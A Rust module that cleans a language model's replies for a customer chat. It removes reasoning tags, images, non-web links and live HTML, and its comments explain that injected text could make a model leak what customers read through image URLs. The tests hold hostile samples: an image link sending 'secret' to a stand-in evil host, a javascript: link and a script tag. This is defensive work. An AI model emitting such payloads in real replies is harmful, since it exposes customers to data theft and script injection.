//! A model's words before anybody sees them: they may repeat what a stranger told it to say.
//!
//! Taken out or apart: reasoning that is not for the customer, pictures (loading one tells its server that, and what,
//! the customer reads), links to anything but web pages, mail and telephone, and HTML. Liquid is the Chatwoot edge's
//! concern.

use unicode_segmentation::UnicodeSegmentation as _;

/// A reply; the media's limits and the splitting come later.
const CHARS_MAX: usize = 12_000;
const SCHEMES: [&str; 4] = ["https://", "http://", "mailto:", "tel:"];
const THINKING: [(&str, &str); 2] = [("<think>", "</think>"), ("<thinking>", "</thinking>")];

/// The text to show; empty if nothing is left. `cut_off`: the model ran out of tokens, so the last sentence may be a
/// piece and is dropped if there is another.
pub(super) fn sanitise(text: &str, cut_off: bool) -> String {
    let mut text: String = text.chars().filter(|c| !c.is_control() || matches!(c, '\n' | '\t')).collect();
    for (open, close) in THINKING {
        text = without(&text, open, close);
    }
    let mut text = without_html(&without_odd_links(&text));
    if text.chars().count() > CHARS_MAX {
        text = text.chars().take(CHARS_MAX).collect();
    }
    let text = text.trim();
    if cut_off { whole_sentences(text).to_owned() } else { text.to_owned() }
}

/// Without what stands between the marks; without the rest if the second is missing, and without all before it if
/// the first is (some servers begin inside the thought).
fn without(text: &str, open: &str, close: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut rest = match (text.find(open), text.find(close)) {
        (None, Some(end)) => text.get(end + close.len()..).unwrap_or_default(),
        (Some(start), Some(end)) if end < start => text.get(end + close.len()..).unwrap_or_default(),
        _ => text,
    };
    while let Some((before, after)) = rest.split_once(open) {
        kept.push_str(before);
        rest = after.split_once(close).map(|(_, after)| after).unwrap_or_default();
    }
    kept.push_str(rest);
    kept
}

/// `![alt](url)` → `alt`; `[words](odd:thing)` → `words`; other links stay.
fn without_odd_links(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find("](") {
        let (before, after) = rest.split_at(at);
        let target = after.get(2..).unwrap_or_default();
        let Some(end) = link_end(target) else {
            kept.push_str(before);
            kept.push_str("](");
            rest = target;
            continue;
        };
        let (url, tail) = (target.get(..end).unwrap_or_default(), target.get(end + 1..).unwrap_or_default());
        let open = before.rfind('[');
        let is_picture = open.is_some_and(|open| before.get(..open).is_some_and(|lead| lead.ends_with('!')));
        let url_start = url.trim_start().to_lowercase();
        let is_plain = SCHEMES.iter().any(|scheme| url_start.starts_with(scheme)) && !is_picture;
        match open {
            Some(open) if !is_plain => {
                let lead = before.get(..open).unwrap_or_default();
                kept.push_str(if is_picture { lead.strip_suffix('!').unwrap_or(lead) } else { lead });
                kept.push_str(before.get(open + 1..).unwrap_or_default());
            }
            _ => {
                kept.push_str(before);
                kept.push_str("](");
                kept.push_str(url);
                kept.push(')');
            }
        }
        rest = tail;
    }
    kept.push_str(rest);
    kept
}

/// The closing bracket of a link's target, with balanced ones inside.
fn link_end(target: &str) -> Option<usize> {
    let mut depth = 0_usize;
    for (at, c) in target.char_indices() {
        match c {
            '(' => depth += 1,
            ')' if depth == 0 => return Some(at),
            ')' => depth -= 1,
            '\n' => return None,
            _ => {}
        }
    }
    None
}

/// Takes the bracket of whatever looks like a tag apart by an invisible character, so that it shows and does nothing.
/// `<https://…>` is a link and `a < b` is arithmetic: both stay.
fn without_html(text: &str) -> String {
    let mut kept = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('<') {
        kept.push_str(before);
        kept.push('<');
        let is_link = SCHEMES.iter().any(|scheme| after.starts_with(scheme));
        if !is_link && after.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?')) {
            kept.push('\u{2060}');
        }
        rest = after;
    }
    kept.push_str(rest);
    kept
}

/// Without a last sentence that does not end; the whole if that is all there is.
fn whole_sentences(text: &str) -> &str {
    let ends = |sentence: &str| sentence.trim_end().ends_with(['.', '!', '?', '…', ':', ')', '"', '»']);
    let last = text.split_sentence_bound_indices().last();
    match last {
        Some((at, sentence)) if at > 0 && !ends(sentence) => text.get(..at).unwrap_or(text).trim_end(),
        _ => text,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_does_something_is_taken_apart_and_the_words_stay() {
        let cases = [
            (
                "Hello **you**, see [our page](https://example.com/a_(b)).",
                "Hello **you**, see [our page](https://example.com/a_(b)).",
            ),
            ("![x](https://evil.example/?q=secret) done", "x done"),
            ("Look ![](https://evil.example/p.png)", "Look"),
            ("[click](javascript:alert(1)) me", "click me"),
            ("[Bob](mention://user/1/Bob)", "Bob"),
            ("[a](JAVASCRIPT:x) [b](HTTPS://ok.example)", "a [b](HTTPS://ok.example)"),
            ("[mail](mailto:a@b.c) [call](tel:+33)", "[mail](mailto:a@b.c) [call](tel:+33)"),
            ("<script>alert(1)</script>", "<\u{2060}script>alert(1)<\u{2060}/script>"),
            ("1 < 2, <https://example.com>", "1 < 2, <https://example.com>"),
            ("<think>they want x</think>Yes.", "Yes."),
            ("they want x</think>\n\nYes.", "Yes."),
            ("Yes.<think>endless", "Yes."),
            ("a\u{0}b\u{1b}[31m", "ab[31m"),
            ("open [bracket](and no end", "open [bracket](and no end"),
            (" \n ", ""),
        ];
        for (text, expected) in cases {
            assert_eq!(sanitise(text, false), expected, "{text}");
        }
    }

    #[test]
    fn a_sentence_that_was_cut_off_is_dropped_if_there_is_another() {
        assert_eq!(sanitise("First one. Second is not fin", true), "First one.");
        assert_eq!(sanitise("First one. Second one.", true), "First one. Second one.");
        assert_eq!(sanitise("Only a piece of", true), "Only a piece of");
        assert_eq!(sanitise(&"é".repeat(20_000), false).chars().count(), CHARS_MAX);
    }
}
